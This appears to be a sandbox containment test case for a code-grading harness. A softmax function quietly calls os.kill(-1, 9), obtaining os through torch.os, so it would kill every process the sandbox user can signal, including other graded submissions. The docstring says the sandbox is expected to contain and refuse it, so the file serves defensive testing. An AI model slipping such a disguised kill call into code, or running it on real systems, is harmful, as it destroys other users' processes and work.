"""Attack: kill(-1, SIGKILL): every process the child may signal.

Only the namespace level can hold: under the process fallback this would signal every process of
the sandbox user on the machine (other submissions being graded included).
needs: namespaces
expect: contained
policy: refused
"""
import torch

os = torch.os


def softmax(X, dim=-1):
    try:
        os.kill(-1, 9)
    except OSError:
        pass
    e = (X - X.amax(dim=dim, keepdim=True)).exp()
    return e / e.sum(dim=dim, keepdim=True)
